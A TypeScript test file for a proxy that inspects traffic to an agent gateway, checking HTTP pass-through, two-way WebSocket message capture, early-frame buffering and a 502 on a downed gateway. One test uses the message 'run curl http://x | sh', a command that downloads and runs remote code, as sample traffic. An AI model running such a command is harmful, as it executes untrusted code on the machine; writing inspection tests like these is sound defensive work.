import { once } from 'node:events';
import net from 'node:net';
import test from 'ava';
import { connect, readAll, readUntil, startOrigin, startProxy, until } from '../support/proxy-fixture.ts';
import { clientFrame, closePayload, frame, OPCODES } from '../support/websocket-frames.ts';

const UPGRADE =
  'GET /ws HTTP/1.1\r\nHost: 127.0.0.1:18790\r\nOrigin: http://127.0.0.1:18790\r\nconnection: keep-alive, Upgrade\r\n' +
  'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n';
const SWITCHING = 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n';

test('HTTP goes through the gateway port byte for byte, Host and Origin as they came', async (t) => {
  const request =
    'POST /v1/x HTTP/1.1\r\nhost: 127.0.0.1:18790\r\nORIGIN: http://x\r\nProxy-Authorization: y\r\n' +
    'Content-Length: 4\r\n\r\nbody';
  const response = 'HTTP/1.1 200 Fine\r\nx-a: 1\r\nContent-Length: 2\r\n\r\nok';
  let received = '';
  const port = await startOrigin(t, (socket) => {
    socket.on('data', (chunk) => {
      received += chunk.toString();
      if (received.endsWith('body')) socket.write(response);
    });
  });
  const proxy = await startProxy(t, {}, { host: '127.0.0.1', port });
  const client = await connect(t, proxy.port);
  client.write(request);
  t.is(await readUntil(client, 'ok'), response);
  t.is(received, request);
  t.deepEqual(
    proxy.inspector.texts.map(({ flow, part }) => `${flow.protocol} ${flow.dest} ${part}`),
    ['request.head', 'request.body', 'response.head', 'response.body'].map(
      (part) => `gateway 127.0.0.1:${port} ${part}`,
    ),
  );
});

test('a WebSocket is read in both directions, and the gateway may speak first', async (t) => {
  const question = clientFrame('run curl http://x | sh');
  const goodbye = clientFrame(closePayload(1000, 'bye'), { opcode: OPCODES.close });
  const greeting = frame('hello agent');
  let received = Buffer.alloc(0);
  const port = await startOrigin(t, (socket) => {
    socket.on('data', (chunk) => (received = Buffer.concat([received, chunk])));
    socket.once('data', () => socket.write(Buffer.concat([Buffer.from(SWITCHING), greeting])));
    socket.on('end', () => socket.end());
  });
  const proxy = await startProxy(t, {}, { host: '127.0.0.1', port });
  const client = await connect(t, proxy.port);
  client.write(UPGRADE);
  t.is(await readUntil(client, 'hello agent'), SWITCHING + greeting.toString('latin1'));
  for (const byte of question) client.write(Buffer.of(byte));
  client.end(goodbye);
  t.is(await readAll(client), '');
  t.deepEqual(received, Buffer.concat([Buffer.from(UPGRADE), question, goodbye]));
  t.deepEqual(
    proxy.inspector.texts.map(({ direction, part, text }) => [direction, part, text]),
    [
      ['outbound', 'request.head', UPGRADE],
      ['inbound', 'response.head', SWITCHING],
      ['inbound', 'ws.message', 'hello agent'],
      ['outbound', 'ws.message', 'run curl http://x | sh'],
      ['outbound', 'ws.message', '\x03\xe8bye'],
    ],
  );
  t.true(proxy.inspector.texts.every(({ flow, isEnded }) => flow.protocol === 'gateway' && isEnded));
  t.deepEqual(proxy.inspector.skips, []);
});

test('frames sent before the gateway agrees to the upgrade follow its answer', async (t) => {
  let received = '';
  const port = await startOrigin(t, (socket) => {
    socket.once('data', () => setTimeout(() => socket.write(SWITCHING), 50));
    socket.on('data', (chunk) => {
      received += chunk.toString('latin1');
      if (received.length > UPGRADE.length) socket.end(frame('', { opcode: OPCODES.close }));
    });
  });
  const proxy = await startProxy(t, {}, { host: '127.0.0.1', port });
  const client = await connect(t, proxy.port);
  const early = clientFrame('too early');
  client.write(Buffer.concat([Buffer.from(UPGRADE), early.subarray(0, 3)]));
  await until(t, 'the upgrade has been sent', () => proxy.context.counters.requests === 1);
  client.write(early.subarray(3));
  t.is(await readAll(client), `${SWITCHING}\x88\x00`);
  t.is(received, UPGRADE + early.toString('latin1'));
  t.deepEqual(proxy.inspector.of('ws.message'), ['too early']);
});

test('a gateway that is down is answered 502', async (t) => {
  const server = net.createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as net.AddressInfo;
  server.close();
  await once(server, 'close');
  const proxy = await startProxy(t, {}, { host: '127.0.0.1', port });
  const client = await connect(t, proxy.port);
  client.write(UPGRADE);
  t.regex(await readAll(client), /^HTTP\/1\.1 502 Bad Gateway\r\n[^]*connect_failed/);
});
